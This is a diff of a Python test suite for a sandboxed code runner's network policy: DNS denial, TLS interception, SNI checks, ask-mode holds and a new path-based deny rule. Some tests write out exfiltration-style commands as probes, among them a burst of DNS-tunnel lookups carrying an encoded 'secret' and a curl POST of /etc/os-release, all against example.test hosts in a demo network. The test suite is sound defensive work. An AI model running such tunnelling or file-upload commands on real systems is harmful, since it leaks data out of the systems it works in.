@@ -35,11 +35,21 @@ def policy(tmp_path: Path, text: str = ALLOW_API_DENY_EVIL) -> str:
 
 
 def test_denied_name_gets_nxdomain_and_is_logged(
-    run_coderun: Callable[..., Result], internet: DemoInternet, tmp_path: Path,
+    run_coderun: Callable[..., Result],
+    internet: DemoInternet,
+    tmp_path: Path,
 ) -> None:
-    result = run_coderun("--policy", policy(tmp_path), "-v", f"{PROBE}:/probe.py:ro", "--",
-                         "python3", "/probe.py", "resolve:evil.example.test",
-                         "resolve:api.example.test")
+    result = run_coderun(
+        "--policy",
+        policy(tmp_path),
+        "-v",
+        f"{PROBE}:/probe.py:ro",
+        "--",
+        "python3",
+        "/probe.py",
+        "resolve:evil.example.test",
+        "resolve:api.example.test",
+    )
     got = results(result)
     assert not got[0]["ok"] and "Name or service not known" in str(got[0]["detail"])
     assert got[1]["ok"] and got[1]["detail"] == internet.ip
@@ -49,13 +59,24 @@ def test_denied_name_gets_nxdomain_and_is_logged(
 
 
 def test_dns_tunnel_burst_leaves_nothing_upstream(
-    run_coderun: Callable[..., Result], internet: DemoInternet,
+    run_coderun: Callable[..., Result],
+    internet: DemoInternet,
 ) -> None:
     labels = [f"c2vjcmv0{n:03d}x.tunnel.example.test" for n in range(40)]
     script = ";".join(f"getent hosts {name}" for name in labels)
     for mode in ("enforce", "ask"):
-        result = run_coderun("--mode", mode, "--prompt", "none", "--ask-timeout", "2", "--",
-                             "sh", "-c", script + "; true")
+        result = run_coderun(
+            "--mode",
+            mode,
+            "--prompt",
+            "none",
+            "--ask-timeout",
+            "2",
+            "--",
+            "sh",
+            "-c",
+            script + "; true",
+        )
         assert result.status == 0, result.stderr
         lookups = {e.qname for e in result.log if e.kind == "dns"}
         assert set(labels) <= lookups  # every lookup was seen and logged ...
@@ -63,12 +84,19 @@ def test_dns_tunnel_burst_leaves_nothing_upstream(
 
 
 def test_plain_http_logs_method_url_status_and_sizes(
-    run_coderun: Callable[..., Result], tmp_path: Path,
+    run_coderun: Callable[..., Result],
+    tmp_path: Path,
 ) -> None:
-    result = run_coderun("--policy", policy(tmp_path), "--", "sh", "-c",
-                         "curl -sS http://api.example.test/bytes/5000 -o /dev/null && "
-                         "curl -sS -X POST --data-binary @/etc/os-release "
-                         "http://api.example.test/upload")
+    result = run_coderun(
+        "--policy",
+        policy(tmp_path),
+        "--",
+        "sh",
+        "-c",
+        "curl -sS http://api.example.test/bytes/5000 -o /dev/null && "
+        "curl -sS -X POST --data-binary @/etc/os-release "
+        "http://api.example.test/upload",
+    )
     assert result.status == 0, result.stderr
     http = [e for e in result.log if e.kind == "http"]
     get = next(e for e in http if e.method == "GET")
@@ -79,13 +107,22 @@ def test_plain_http_logs_method_url_status_and_sizes(
 
 
 def test_https_without_interception_logs_sni_and_bytes(
-    run_coderun: Callable[..., Result], internet: DemoInternet, tmp_path: Path,
+    run_coderun: Callable[..., Result],
+    internet: DemoInternet,
+    tmp_path: Path,
 ) -> None:
     ca = tmp_path / "ca.pem"
     ca.write_bytes(internet.ca_pem())
-    result = run_coderun("--policy", policy(tmp_path), "-v", f"{ca}:/ca.pem:ro", "--", "sh",
-                         "-c", "curl -sS --cacert /ca.pem https://api.example.test/bytes/20000 "
-                         "-o /dev/null")
+    result = run_coderun(
+        "--policy",
+        policy(tmp_path),
+        "-v",
+        f"{ca}:/ca.pem:ro",
+        "--",
+        "sh",
+        "-c",
+        "curl -sS --cacert /ca.pem https://api.example.test/bytes/20000 -o /dev/null",
+    )
     assert result.status == 0, result.stderr  # the demo server's own certificate: untouched
     tls = [e for e in result.log if e.kind == "tls"]
     assert tls and tls[0].sni == "api.example.test" and tls[0].bytes_in > 20000
@@ -93,15 +130,25 @@ def test_https_without_interception_logs_sni_and_bytes(
 
 
 def test_intercepted_https_logs_urls_and_the_sandbox_trusts_the_ca(
-    run_coderun: Callable[..., Result], internet: DemoInternet, tmp_path: Path,
+    run_coderun: Callable[..., Result],
+    internet: DemoInternet,
+    tmp_path: Path,
 ) -> None:
     ca = tmp_path / "ca.pem"
     ca.write_bytes(internet.ca_pem())
-    result = run_coderun("--policy", policy(tmp_path), "--intercept-tls", "--upstream-ca",
-                         str(ca), "--", "sh", "-c",
-                         "curl -sS https://api.example.test/curl && python3 -c "
-                         "'import urllib.request as u; "
-                         "print(u.urlopen(\"https://api.example.test/python\").read())'")
+    result = run_coderun(
+        "--policy",
+        policy(tmp_path),
+        "--intercept-tls",
+        "--upstream-ca",
+        str(ca),
+        "--",
+        "sh",
+        "-c",
+        "curl -sS https://api.example.test/curl && python3 -c "
+        "'import urllib.request as u; "
+        'print(u.urlopen("https://api.example.test/python").read())\'',
+    )
     assert result.status == 0, result.stderr
     assert "hello from api.example.test /curl" in result.stdout
     assert "hello from api.example.test /python" in result.stdout
@@ -111,16 +158,26 @@ def test_intercepted_https_logs_urls_and_the_sandbox_trusts_the_ca(
 
 
 def test_bare_ip_is_decided_by_its_sni(
-    run_coderun: Callable[..., Result], internet: DemoInternet, tmp_path: Path,
+    run_coderun: Callable[..., Result],
+    internet: DemoInternet,
+    tmp_path: Path,
 ) -> None:
     ca = tmp_path / "ca.pem"
     ca.write_bytes(internet.ca_pem())
     ip = internet.ip  # no lookup: curl is told the address
-    result = run_coderun("--policy", policy(tmp_path), "-v", f"{ca}:/ca.pem:ro", "--", "sh",
-                         "-c", f"curl -sS -m 5 --cacert /ca.pem --resolve "
-                         f"api.example.test:443:{ip} https://api.example.test/ok; echo api=$?; "
-                         f"curl -sS -m 5 --cacert /ca.pem --resolve evil.example.test:443:{ip} "
-                         "https://evil.example.test/no; echo evil=$?")
+    result = run_coderun(
+        "--policy",
+        policy(tmp_path),
+        "-v",
+        f"{ca}:/ca.pem:ro",
+        "--",
+        "sh",
+        "-c",
+        f"curl -sS -m 5 --cacert /ca.pem --resolve "
+        f"api.example.test:443:{ip} https://api.example.test/ok; echo api=$?; "
+        f"curl -sS -m 5 --cacert /ca.pem --resolve evil.example.test:443:{ip} "
+        "https://evil.example.test/no; echo evil=$?",
+    )
     assert "hello from api.example.test /ok" in result.stdout and "api=0" in result.stdout
     assert "evil=0" not in result.stdout and "hello from evil" not in result.stdout
     flows = [e for e in result.log if e.kind == "flow" and e.dst == ip and e.dport == 443]
@@ -130,13 +187,24 @@ def test_bare_ip_is_decided_by_its_sni(
 
 
 def test_bare_ip_is_held_by_its_sni_in_ask_mode(
-    home: Path, internet: DemoInternet, tags: dict[str, str], tmp_path: Path,
+    home: Path,
+    internet: DemoInternet,
+    tags: dict[str, str],
+    tmp_path: Path,
 ) -> None:
     ca = tmp_path / "ca.pem"
     ca.write_bytes(internet.ca_pem())
-    run = LiveRun(home, internet, "-v", f"{ca}:/ca.pem:ro", "--", "sh", "-c",
-                  f"curl -sS -m 30 --cacert /ca.pem --resolve evil.example.test:443:{internet.ip}"
-                  " https://evil.example.test/held; echo evil=$?")
+    run = LiveRun(
+        home,
+        internet,
+        "-v",
+        f"{ca}:/ca.pem:ro",
+        "--",
+        "sh",
+        "-c",
+        f"curl -sS -m 30 --cacert /ca.pem --resolve evil.example.test:443:{internet.ip}"
+        " https://evil.example.test/held; echo evil=$?",
+    )
     try:
         item = by_label(run.wait_pending(1), "evil.example.test")
         assert item.dst == internet.ip and item.dport == 443
@@ -151,10 +219,21 @@ def test_bare_ip_is_held_by_its_sni_in_ask_mode(
 
 
 def test_a_person_may_take_sixty_seconds(
-    home: Path, internet: DemoInternet, tags: dict[str, str],
+    home: Path,
+    internet: DemoInternet,
+    tags: dict[str, str],
 ) -> None:
-    run = LiveRun(home, internet, "-e", "PROBE_TIMEOUT=150", "--", "python3", "/probe.py",
-                  "http:http://api.example.test/patience", timeout=120)
+    run = LiveRun(
+        home,
+        internet,
+        "-e",
+        "PROBE_TIMEOUT=150",
+        "--",
+        "python3",
+        "/probe.py",
+        "http:http://api.example.test/patience",
+        timeout=120,
+    )
     try:
         item = run.wait_pending(1)[0]
         assert item.label == "api.example.test"
@@ -165,3 +244,21 @@ def test_a_person_may_take_sixty_seconds(
         run.kill()
     assert status == 0, err
     assert got[0]["ok"] and "hello from api.example.test /patience" in str(got[0]["detail"])
+
+
+def test_a_path_rule_refuses_one_url_of_an_allowed_host(
+    run_coderun: Callable[..., Result],
+    tmp_path: Path,
+) -> None:
+    rules = (
+        ALLOW_API_DENY_EVIL
+        + '\n[[rule]]\naction = "deny"\nhost = "api.example.test"\npath = "/upload"\n'
+    )
+    result = run_coderun("--policy", policy(tmp_path, rules), "--", "sh", "-c",
+                         "curl -sS -o /dev/null -w 'ok=%{http_code}\\n' http://api.example.test/ok; "
+                         "curl -sS -o /dev/null -w 'up=%{http_code}\\n' -X POST --data x "
+                         "http://api.example.test/upload/file")  # fmt: skip
+    assert "ok=200" in result.stdout and "up=403" in result.stdout, result.stdout
+    statuses = {e.url: e.status for e in result.log if e.kind == "http"}
+    assert statuses == {"http://api.example.test/ok": 200,
+                        "http://api.example.test/upload/file": 403}  # fmt: skip
